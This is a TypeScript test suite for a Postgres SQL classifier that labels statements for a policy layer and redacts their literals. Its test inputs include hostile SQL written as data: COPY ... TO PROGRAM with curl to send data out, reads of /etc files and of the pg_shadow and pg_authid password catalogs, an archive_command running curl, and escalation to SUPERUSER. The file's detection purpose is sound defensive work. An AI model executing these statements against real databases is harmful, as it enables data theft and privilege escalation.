import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import type { PgStatement } from '../../../core/policy-contract.ts';
import { classifySql, classifySqlSync, loadSqlParser, SqlClassifier } from '../../../sidecar/postgres/classify.ts';

/**
 * Table-driven: each case is one SQL text with what the policy must see for
 * its first statement. `tables` lists `access:schema.name` (order-insensitive);
 * `functions`/`flags` must be present (`noFlags` absent); literals marked
 * S3CR3T or 424242 must never reach `text`.
 */
interface Case {
  sql: string;
  command: string;
  class: string;
  tables?: string[];
  functions?: string[];
  flags?: string[];
  noFlags?: string[];
  has_where?: boolean;
  statements?: number;
}

const cases: Case[] = [
  // reads
  { sql: "SELECT * FROM users WHERE email = 'S3CR3T'", command: 'SELECT', class: 'read', tables: ['read:public.users'], has_where: true },
  { sql: 'SELECT 1', command: 'SELECT', class: 'read', tables: [] },
  { sql: 'TABLE accounts', command: 'SELECT', class: 'read', tables: ['read:public.accounts'] },
  { sql: 'VALUES (424242)', command: 'SELECT', class: 'read', tables: [] },
  { sql: 'SELECT a.x FROM sales.orders a JOIN public.users u ON u.id = a.uid', command: 'SELECT', class: 'read', tables: ['read:sales.orders', 'read:public.users'] },
  { sql: 'SELECT * FROM "Weird Table"', command: 'SELECT', class: 'read', tables: ['read:public.Weird Table'] },
  { sql: 'SELECT * FROM "Sales"."Q1 Orders"', command: 'SELECT', class: 'read', tables: ['read:Sales.Q1 Orders'] },
  { sql: "/* DROP TABLE users */ SELECT 1", command: 'SELECT', class: 'read', tables: [] },
  { sql: "SELECT 'DROP TABLE x'", command: 'SELECT', class: 'read', tables: [] },
  { sql: "SELECT $$DELETE FROM users$$", command: 'SELECT', class: 'read', tables: [] },
  { sql: "-- DELETE FROM users\nSELECT 2", command: 'SELECT', class: 'read', tables: [] },
  { sql: 'SELECT * FROM users FOR UPDATE', command: 'SELECT', class: 'read', tables: ['read:public.users'], flags: ['for_update'] },
  { sql: 'SELECT * FROM users FOR NO KEY UPDATE SKIP LOCKED', command: 'SELECT', class: 'read', flags: ['for_update'] },
  { sql: 'SELECT * FROM users u FOR SHARE OF u', command: 'SELECT', class: 'read', tables: ['read:public.users'], flags: ['for_share'] },
  { sql: 'SELECT * FROM users FOR KEY SHARE', command: 'SELECT', class: 'read', flags: ['for_share'] },
  { sql: 'SELECT * FROM pg_authid', command: 'SELECT', class: 'read', tables: ['read:pg_catalog.pg_authid'], flags: ['system_catalog'] },
  { sql: 'SELECT * FROM pg_catalog.pg_shadow', command: 'SELECT', class: 'read', tables: ['read:pg_catalog.pg_shadow'], flags: ['system_catalog'] },
  { sql: 'SELECT table_name FROM information_schema.tables', command: 'SELECT', class: 'read', flags: ['system_catalog'] },
  { sql: 'SELECT * FROM pg_widgets', command: 'SELECT', class: 'read', tables: ['read:public.pg_widgets'], noFlags: ['system_catalog'] },
  { sql: 'WITH t AS (SELECT * FROM src) SELECT * FROM t', command: 'SELECT', class: 'read', tables: ['read:public.src'] },
  { sql: 'WITH users AS (SELECT 1) SELECT * FROM users, public.users', command: 'SELECT', class: 'read', tables: ['read:public.users'] },
  { sql: 'SELECT * FROM (WITH s AS (SELECT 1) SELECT * FROM s) a, s', command: 'SELECT', class: 'read', tables: ['read:public.s'] },
  { sql: 'WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT n FROM r, nums) SELECT * FROM r', command: 'SELECT', class: 'read', tables: ['read:public.nums'] },
  { sql: 'SELECT (SELECT max(x) FROM hidden) FROM visible', command: 'SELECT', class: 'read', tables: ['read:public.hidden', 'read:public.visible'], functions: ['max'] },
  { sql: 'SELECT * FROM a WHERE id IN (SELECT aid FROM b WHERE EXISTS (SELECT 1 FROM c))', command: 'SELECT', class: 'read', tables: ['read:public.a', 'read:public.b', 'read:public.c'] },
  { sql: 'SELECT x FROM a UNION SELECT y FROM b EXCEPT SELECT z FROM c', command: 'SELECT', class: 'read', tables: ['read:public.a', 'read:public.b', 'read:public.c'] },
  { sql: 'SELECT * FROM a, LATERAL (SELECT * FROM b WHERE b.id = a.id) l', command: 'SELECT', class: 'read', tables: ['read:public.a', 'read:public.b'] },
  // dangerous functions anywhere in the tree
  { sql: "SELECT pg_read_file('/etc/S3CR3T')", command: 'SELECT', class: 'read', functions: ['pg_read_file'] },
  { sql: "SELECT pg_catalog.set_config('role', 'admin', false)", command: 'SELECT', class: 'read', functions: ['pg_catalog.set_config'] },
  { sql: "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)", command: 'SELECT', class: 'read', functions: ['dblink'] },
  { sql: 'SELECT 1 FROM t WHERE x = (SELECT pg_terminate_backend(424242))', command: 'SELECT', class: 'read', functions: ['pg_terminate_backend'] },
  { sql: 'WITH c AS (SELECT lo_export(1, $1)) SELECT * FROM c', command: 'SELECT', class: 'read', functions: ['lo_export'] },
  { sql: 'SELECT id FROM t ORDER BY pg_sleep(1)', command: 'SELECT', class: 'read', functions: ['pg_sleep'] },
  { sql: "SELECT upper(lower(pg_ls_dir('/')))", command: 'SELECT', class: 'read', functions: ['upper', 'lower', 'pg_ls_dir'] },
  { sql: 'SELECT count(*) FILTER (WHERE pg_cancel_backend(pid)) FROM pg_stat_activity', command: 'SELECT', class: 'read', functions: ['count', 'pg_cancel_backend'], flags: ['system_catalog'] },
  { sql: 'SELECT "PG_READ_FILE"(1)', command: 'SELECT', class: 'read', functions: ['pg_read_file'] },
  { sql: "INSERT INTO logs (msg) VALUES (pg_read_binary_file('/S3CR3T'))", command: 'INSERT', class: 'write', functions: ['pg_read_binary_file'] },
  { sql: 'UPDATE t SET a = 1 WHERE id = 2 RETURNING lo_import($1)', command: 'UPDATE', class: 'write', functions: ['lo_import'] },
  { sql: 'CREATE TABLE t2 (a text DEFAULT pg_read_file($1))', command: 'CREATE TABLE', class: 'ddl', tables: ['write:public.t2'], functions: ['pg_read_file'] },
  // writes
  { sql: "INSERT INTO users (email) VALUES ('S3CR3T')", command: 'INSERT', class: 'write', tables: ['write:public.users'] },
  { sql: 'INSERT INTO archive SELECT * FROM orders WHERE ts < now()', command: 'INSERT', class: 'write', tables: ['write:public.archive', 'read:public.orders'], functions: ['now'] },
  { sql: "INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET v = 'S3CR3T'", command: 'INSERT', class: 'write', tables: ['write:public.t'] },
  { sql: 'UPDATE accounts SET balance = 0 WHERE id = 424242', command: 'UPDATE', class: 'write', tables: ['write:public.accounts'], has_where: true },
  { sql: 'UPDATE accounts SET balance = 0', command: 'UPDATE', class: 'write', tables: ['write:public.accounts'], has_where: false },
  { sql: 'UPDATE accounts SET balance = 0 WHERE true', command: 'UPDATE', class: 'write', has_where: false },
  { sql: 'UPDATE t SET a = s.a FROM src s WHERE t.id = s.id', command: 'UPDATE', class: 'write', tables: ['write:public.t', 'read:public.src'], has_where: true },
  { sql: 'DELETE FROM sessions', command: 'DELETE', class: 'write', tables: ['write:public.sessions'], has_where: false },
  { sql: 'DELETE FROM sessions WHERE 1 = 1', command: 'DELETE', class: 'write', has_where: false },
  { sql: 'DELETE FROM sessions WHERE expires < now()', command: 'DELETE', class: 'write', has_where: true },
  { sql: 'DELETE FROM t USING u WHERE t.uid = u.id', command: 'DELETE', class: 'write', tables: ['write:public.t', 'read:public.u'], has_where: true },
  { sql: 'MERGE INTO tgt USING src ON tgt.id = src.id WHEN MATCHED THEN UPDATE SET v = src.v WHEN NOT MATCHED THEN INSERT VALUES (src.id, src.v)', command: 'MERGE', class: 'write', tables: ['write:public.tgt', 'read:public.src'] },
  { sql: 'TRUNCATE a, b', command: 'TRUNCATE', class: 'write', tables: ['write:public.a', 'write:public.b'], has_where: false },
  // data-modifying CTEs
  { sql: 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', command: 'SELECT', class: 'write', tables: ['write:public.t'], flags: ['data_modifying_cte'], has_where: false },
  { sql: "WITH i AS (INSERT INTO audit VALUES ('S3CR3T') RETURNING id) SELECT id FROM i", command: 'SELECT', class: 'write', tables: ['write:public.audit'], flags: ['data_modifying_cte'] },
  { sql: 'WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING a) SELECT * FROM u', command: 'SELECT', class: 'write', tables: ['write:public.t'], flags: ['data_modifying_cte'], has_where: true },
  { sql: 'WITH d AS (DELETE FROM t WHERE id = 3 RETURNING *) INSERT INTO t_archive SELECT * FROM d', command: 'INSERT', class: 'write', tables: ['write:public.t', 'write:public.t_archive'], flags: ['data_modifying_cte'] },
  // SELECT INTO / CREATE TABLE AS
  { sql: 'SELECT * INTO copy_of_users FROM users', command: 'SELECT INTO', class: 'ddl', tables: ['write:public.copy_of_users', 'read:public.users'], flags: ['into'] },
  { sql: 'CREATE TABLE snap AS SELECT * FROM users', command: 'CREATE TABLE AS', class: 'ddl', tables: ['write:public.snap', 'read:public.users'] },
  { sql: 'CREATE MATERIALIZED VIEW mv AS SELECT * FROM users', command: 'CREATE MATERIALIZED VIEW', class: 'ddl', tables: ['write:public.mv', 'read:public.users'] },
  // EXPLAIN
  { sql: 'EXPLAIN DELETE FROM t', command: 'EXPLAIN', class: 'read', tables: ['read:public.t'], noFlags: ['explain_analyze'] },
  { sql: 'EXPLAIN ANALYZE DELETE FROM t WHERE id = 424242', command: 'EXPLAIN', class: 'write', tables: ['write:public.t'], flags: ['explain_analyze'] },
  { sql: 'EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1', command: 'EXPLAIN', class: 'write', tables: ['write:public.t'], flags: ['explain_analyze'], has_where: false },
  { sql: 'EXPLAIN (ANALYZE false) DELETE FROM t', command: 'EXPLAIN', class: 'read', tables: ['read:public.t'], noFlags: ['explain_analyze'] },
  { sql: 'EXPLAIN ANALYZE SELECT * FROM t', command: 'EXPLAIN', class: 'read', tables: ['read:public.t'], flags: ['explain_analyze'] },
  // PREPARE / EXECUTE / DEALLOCATE
  { sql: 'PREPARE p1 AS DELETE FROM t WHERE id = $1', command: 'PREPARE', class: 'write', tables: ['write:public.t'], has_where: true },
  { sql: 'PREPARE p2 (int) AS SELECT * FROM t WHERE id = $1', command: 'PREPARE', class: 'read', tables: ['read:public.t'] },
  { sql: 'EXECUTE nobody_prepared_this', command: 'EXECUTE', class: 'unparseable', flags: ['unknown_prepared_statement'] },
  { sql: 'DEALLOCATE p1', command: 'DEALLOCATE', class: 'session' },
  // COPY
  { sql: 'COPY t TO STDOUT', command: 'COPY', class: 'read', tables: ['read:public.t'], flags: ['copy_to', 'copy_stdout'] },
  { sql: 'COPY t FROM STDIN', command: 'COPY', class: 'write', tables: ['write:public.t'], flags: ['copy_from', 'copy_stdin'] },
  { sql: "COPY t TO PROGRAM 'curl -d @- http://S3CR3T'", command: 'COPY', class: 'admin', tables: ['read:public.t'], flags: ['copy_to', 'copy_program'] },
  { sql: "COPY t FROM PROGRAM 'cat /etc/S3CR3T'", command: 'COPY', class: 'admin', tables: ['write:public.t'], flags: ['copy_from', 'copy_program'] },
  { sql: "COPY t FROM '/var/lib/S3CR3T.csv'", command: 'COPY', class: 'admin', flags: ['copy_from', 'copy_file'] },
  { sql: 'COPY (SELECT * FROM users) TO STDOUT', command: 'COPY', class: 'read', tables: ['read:public.users'], flags: ['copy_to', 'copy_stdout'] },
  { sql: 'COPY (DELETE FROM users WHERE id = 424242 RETURNING *) TO STDOUT', command: 'COPY', class: 'write', tables: ['write:public.users'] },
  // DO / functions / procedures
  { sql: "DO $$ BEGIN PERFORM pg_read_file('S3CR3T'); END $$", command: 'DO', class: 'admin', tables: [] },
  { sql: "DO LANGUAGE plpgsql 'BEGIN NULL; END'", command: 'DO', class: 'admin' },
  { sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 424242'", command: 'CREATE FUNCTION', class: 'ddl' },
  { sql: 'CREATE OR REPLACE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END', command: 'CREATE PROCEDURE', class: 'ddl', tables: ['write:public.t'] },
  { sql: 'CALL do_things(1)', command: 'CALL', class: 'write', functions: ['do_things'] },
  { sql: 'DROP FUNCTION f()', command: 'DROP FUNCTION', class: 'ddl' },
  // session / role switching
  { sql: 'SET ROLE admin', command: 'SET ROLE', class: 'session' },
  { sql: "SET ROLE 'admin'", command: 'SET ROLE', class: 'session' },
  { sql: 'SET LOCAL ROLE admin', command: 'SET ROLE', class: 'session', flags: ['set_local'] },
  { sql: 'SET SESSION AUTHORIZATION postgres', command: 'SET SESSION AUTHORIZATION', class: 'session' },
  { sql: 'RESET ROLE', command: 'RESET', class: 'session' },
  { sql: 'RESET ALL', command: 'RESET', class: 'session' },
  { sql: "SET search_path = 'evil', public", command: 'SET', class: 'session' },
  { sql: 'SET standard_conforming_strings = off', command: 'SET', class: 'session', flags: ['lexer_setting'] },
  { sql: "SET client_encoding = 'SJIS'", command: 'SET', class: 'session', flags: ['lexer_setting'] },
  { sql: 'SHOW search_path', command: 'SHOW', class: 'session' },
  { sql: 'DISCARD ALL', command: 'DISCARD', class: 'session' },
  { sql: 'LISTEN ch', command: 'LISTEN', class: 'session' },
  { sql: "NOTIFY ch, 'S3CR3T'", command: 'NOTIFY', class: 'utility' },
  // admin
  { sql: "ALTER SYSTEM SET archive_command = 'curl S3CR3T'", command: 'ALTER SYSTEM', class: 'admin' },
  { sql: 'VACUUM FULL t', command: 'VACUUM', class: 'admin', tables: ['write:public.t'] },
  { sql: 'ANALYZE t', command: 'ANALYZE', class: 'admin' },
  { sql: 'CHECKPOINT', command: 'CHECKPOINT', class: 'admin' },
  { sql: "LOAD 'plugin'", command: 'LOAD', class: 'admin' },
  { sql: 'CREATE EXTENSION dblink', command: 'CREATE EXTENSION', class: 'admin' },
  { sql: 'DROP EXTENSION dblink', command: 'DROP EXTENSION', class: 'admin' },
  { sql: 'CREATE DATABASE d2', command: 'CREATE DATABASE', class: 'admin' },
  { sql: 'DROP DATABASE d2', command: 'DROP DATABASE', class: 'admin' },
  { sql: 'REINDEX TABLE t', command: 'REINDEX', class: 'admin' },
  // ddl
  { sql: 'CREATE TABLE t (id int primary key, u int references users(id))', command: 'CREATE TABLE', class: 'ddl', tables: ['write:public.t', 'read:public.users'] },
  { sql: 'ALTER TABLE t ADD COLUMN c int', command: 'ALTER TABLE', class: 'ddl', tables: ['write:public.t'] },
  { sql: 'ALTER TABLE t RENAME TO t_old', command: 'ALTER TABLE', class: 'ddl', tables: ['write:public.t'] },
  { sql: 'DROP TABLE a.b, c CASCADE', command: 'DROP TABLE', class: 'ddl', tables: ['write:a.b', 'write:public.c'] },
  { sql: 'DROP VIEW v', command: 'DROP VIEW', class: 'ddl', tables: ['write:public.v'] },
  { sql: 'CREATE INDEX i ON t (lower(email))', command: 'CREATE INDEX', class: 'ddl', tables: ['write:public.t'], functions: ['lower'] },
  { sql: 'CREATE VIEW v AS SELECT * FROM secrets', command: 'CREATE VIEW', class: 'ddl', tables: ['write:public.v', 'read:public.secrets'] },
  { sql: 'CREATE SCHEMA s', command: 'CREATE SCHEMA', class: 'ddl' },
  { sql: 'CREATE TRIGGER trg AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION evil()', command: 'CREATE TRIGGER', class: 'ddl', tables: ['write:public.t'], functions: ['evil'] },
  { sql: "COMMENT ON TABLE t IS 'S3CR3T'", command: 'COMMENT', class: 'ddl' },
  { sql: 'CREATE SEQUENCE s', command: 'CREATE SEQUENCE', class: 'ddl', tables: ['write:public.s'] },
  // dcl
  { sql: 'GRANT SELECT ON t TO bob', command: 'GRANT', class: 'dcl', tables: ['write:public.t'] },
  { sql: 'REVOKE ALL ON ALL TABLES IN SCHEMA public FROM bob', command: 'REVOKE', class: 'dcl', flags: ['all_in_schema'] },
  { sql: 'GRANT admin TO bob', command: 'GRANT', class: 'dcl' },
  { sql: "CREATE ROLE r LOGIN PASSWORD 'S3CR3T'", command: 'CREATE ROLE', class: 'dcl' },
  { sql: "CREATE USER u PASSWORD 'S3CR3T'", command: 'CREATE USER', class: 'dcl' },
  { sql: "ALTER ROLE bob WITH SUPERUSER PASSWORD 'S3CR3T'", command: 'ALTER ROLE', class: 'dcl' },
  { sql: 'DROP ROLE bob', command: 'DROP ROLE', class: 'dcl' },
  { sql: 'CREATE POLICY p ON t USING (true)', command: 'CREATE POLICY', class: 'dcl', tables: ['write:public.t'] },
  // tcl
  { sql: 'BEGIN', command: 'BEGIN', class: 'tcl' },
  { sql: 'START TRANSACTION ISOLATION LEVEL SERIALIZABLE', command: 'START TRANSACTION', class: 'tcl' },
  { sql: 'COMMIT', command: 'COMMIT', class: 'tcl' },
  { sql: 'ROLLBACK', command: 'ROLLBACK', class: 'tcl' },
  { sql: 'SAVEPOINT s1', command: 'SAVEPOINT', class: 'tcl' },
  { sql: 'RELEASE SAVEPOINT s1', command: 'RELEASE', class: 'tcl' },
  { sql: 'ROLLBACK TO SAVEPOINT s1', command: 'ROLLBACK TO SAVEPOINT', class: 'tcl' },
  { sql: "PREPARE TRANSACTION 'S3CR3T'", command: 'PREPARE TRANSACTION', class: 'tcl' },
  { sql: 'SET TRANSACTION READ ONLY', command: 'SET TRANSACTION', class: 'tcl' },
  // cursors, locks
  { sql: 'DECLARE c CURSOR FOR SELECT * FROM t', command: 'DECLARE CURSOR', class: 'read', tables: ['read:public.t'] },
  { sql: 'FETCH 10 FROM c', command: 'FETCH', class: 'read' },
  { sql: 'LOCK TABLE t IN ACCESS EXCLUSIVE MODE', command: 'LOCK TABLE', class: 'utility', tables: ['write:public.t'] },
  { sql: 'LOCK TABLE t IN ACCESS SHARE MODE', command: 'LOCK TABLE', class: 'utility', tables: ['read:public.t'] },
  // multiple statements and unparseable text
  { sql: "SELECT 1; DELETE FROM t WHERE id = 424242", command: 'SELECT', class: 'read', flags: ['multiple_statements'], statements: 2 },
  { sql: "SELECT FROM WHERE 'S3CR3T'", command: 'UNPARSEABLE', class: 'unparseable', statements: 1 },
  { sql: "SELECT 'S3CR3T", command: 'UNPARSEABLE', class: 'unparseable', statements: 1 },
  { sql: 'DELET FROM t', command: 'UNPARSEABLE', class: 'unparseable', statements: 1 },
];

function tableKeys(s: PgStatement): string[] {
  return s.tables.map((t) => `${t.access}:${t.schema}.${t.name}`).sort();
}

before(async () => {
  await loadSqlParser();
});

describe('classifySql: statement shapes', () => {
  it('covers at least 80 statements', () => {
    assert.ok(cases.length >= 80, `only ${cases.length} cases`);
  });
  for (const c of cases) {
    it(c.sql.replace(/\s+/g, ' ').slice(0, 90), async () => {
      const r = await classifySql(c.sql);
      if (c.statements !== undefined) assert.equal(r.request.statements.length, c.statements);
      const s = r.request.statements[0];
      assert.ok(s, 'no statement');
      assert.equal(s.command, c.command);
      assert.equal(s.class, c.class);
      if (c.tables) assert.deepEqual(tableKeys(s), [...c.tables].sort());
      for (const f of c.functions ?? []) assert.ok(s.functions.includes(f), `functions ${JSON.stringify(s.functions)} lack ${f}`);
      for (const f of c.flags ?? []) assert.ok(s.flags.includes(f), `flags ${JSON.stringify(s.flags)} lack ${f}`);
      for (const f of c.noFlags ?? []) assert.ok(!s.flags.includes(f), `flags ${JSON.stringify(s.flags)} must not have ${f}`);
      if (c.has_where !== undefined) assert.equal(s.has_where, c.has_where);
      for (const st of r.request.statements) {
        assert.ok(!/S3CR3T|424242/.test(st.text), `literal leaked into text: ${st.text}`);
        assert.ok(!/S3CR3T|424242/.test(JSON.stringify(st)), `literal leaked into the statement: ${JSON.stringify(st)}`);
      }
      if (s.class !== 'unparseable') assert.match(s.fingerprint, /^[0-9a-f]{16}$/);
    });
  }
});

describe('classifySql: details', () => {
  it('splits multi-statement strings so each statement has its own text', async () => {
    const r = await classifySql("SELECT 'a' /* x */; UPDATE t SET v = 'S3CR3T' WHERE id = 1;\n DROP TABLE z");
    assert.deepEqual(r.request.statements.map((s) => s.command), ['SELECT', 'UPDATE', 'DROP TABLE']);
    assert.deepEqual(r.request.statements.map((s) => s.text), ['SELECT $1', 'UPDATE t SET v = $1 WHERE id = $2', 'DROP TABLE z']);
    assert.deepEqual(r.statements.map((s) => s.source), ["SELECT 'a' /* x */", "UPDATE t SET v = 'S3CR3T' WHERE id = 1", 'DROP TABLE z']);
    for (const s of r.request.statements) assert.ok(s.flags.includes('multiple_statements'));
  });

  it('keeps statement boundaries right with multi-byte characters', async () => {
    const r = await classifySql("SELECT 'ünïcødé' AS ö FROM tä; DELETE FROM tö WHERE x = 'ß'");
    assert.deepEqual(r.statements.map((s) => s.source), ["SELECT 'ünïcødé' AS ö FROM tä", "DELETE FROM tö WHERE x = 'ß'"]);
    assert.deepEqual(r.request.statements.map((s) => s.text), ['SELECT $1 AS ö FROM tä', 'DELETE FROM tö WHERE x = $1']);
    assert.deepEqual(tableKeys(r.request.statements[1]!), ['write:public.tö']);
  });

  it('numbers replacement parameters after the ones already present', async () => {
    const r = await classifySql("SELECT * FROM t WHERE a = $1 AND b = 'x' AND c = $2");
    assert.equal(r.request.statements[0]!.text, 'SELECT * FROM t WHERE a = $1 AND b = $3 AND c = $2');
  });

  it('fingerprints are stable across literal values and differ across shapes', async () => {
    const a = (await classifySql('SELECT * FROM t WHERE id = 1')).request.statements[0]!;
    const b = (await classifySql('SELECT * FROM t WHERE id = 99')).request.statements[0]!;
    const c = (await classifySql('SELECT * FROM u WHERE id = 1')).request.statements[0]!;
    assert.equal(a.fingerprint, b.fingerprint);
    assert.notEqual(a.fingerprint, c.fingerprint);
  });

  it('reports a parse error with its position, without the literal', async () => {
    const r = await classifySql("SELECT * FROM t WHERE a = 'S3CR3T' 'more' AND");
    const s = r.request.statements[0]! as PgStatement & { parse_error?: string };
    assert.equal(s.command, 'UNPARSEABLE');
    assert.match(s.parse_error ?? '', /syntax error .*\(at character \d+\)/);
    assert.ok(!/S3CR3T/.test(JSON.stringify(s)));
    const near = (await classifySql("SELECT 1 'S3CR3T'")).request.statements[0]! as PgStatement & { parse_error?: string };
    assert.ok(!/S3CR3T/.test(JSON.stringify(near)), JSON.stringify(near));
  });

  it('EXECUTE is classified as the prepared statement it runs', async () => {
    const prep = await classifySql('PREPARE wipe (int) AS DELETE FROM accounts WHERE id = $1');
    const p = prep.statements[0]!.prepare;
    assert.ok(p);
    assert.equal(p.name, 'wipe');
    assert.equal(p.statement.command, 'DELETE');
    const prepared = new Map([[p.name, p.statement]]);
    const r = await classifySql('EXECUTE wipe(424242)', { prepared });
    const s = r.request.statements[0]!;
    assert.equal(s.command, 'EXECUTE');
    assert.equal(s.class, 'write');
    assert.deepEqual(tableKeys(s), ['write:public.accounts']);
    assert.equal(s.has_where, true);
    assert.ok(!s.text.includes('424242'));
    // the result depends on the session, so the same text with another map is classified again
    const unknown = await classifySql('EXECUTE wipe(424242)', { prepared: new Map() });
    assert.equal(unknown.request.statements[0]!.class, 'unparseable');
    const explained = await classifySql('EXPLAIN ANALYZE EXECUTE wipe(1)', { prepared });
    assert.equal(explained.request.statements[0]!.class, 'write');
    const planOnly = await classifySql('EXPLAIN EXECUTE wipe(1)', { prepared });
    assert.deepEqual(tableKeys(planOnly.request.statements[0]!), ['read:public.accounts']);
  });

  it('DEALLOCATE tells the proxy which name to forget', async () => {
    assert.equal((await classifySql('DEALLOCATE wipe')).statements[0]!.deallocate, 'wipe');
    assert.equal((await classifySql('DEALLOCATE ALL')).statements[0]!.deallocate, null);
  });

  it('carries the protocol message and returns no statements for empty text', async () => {
    const r = await classifySql('  ;  ', { message: 'parse' });
    assert.equal(r.request.message, 'parse');
    assert.deepEqual(r.request.statements, []);
  });

  it('caches by exact text in a bounded LRU', async () => {
    const c = new SqlClassifier({ cacheEntries: 2 });
    await c.classify('SELECT 1');
    await c.classify('SELECT 2');
    const first = c.classifySync('SELECT 1');
    assert.equal(c.hits, 1);
    await c.classify('SELECT 3'); // evicts SELECT 2, the least recently used
    assert.equal(c.cacheSize, 2);
    const again = c.classifySync('SELECT 1');
    assert.equal(c.hits, 2);
    assert.equal(again.statements[0], first.statements[0]);
    c.classifySync('SELECT 2');
    assert.equal(c.misses, 4);
    assert.throws(() => {
      (again.request.statements[0]!.tables as unknown[]).push('x');
    }, TypeError);
  });

  it('the sync variant gives the same answer as the async one', async () => {
    const text = 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d';
    assert.deepEqual(classifySqlSync(text).request, (await classifySql(text)).request);
  });
});
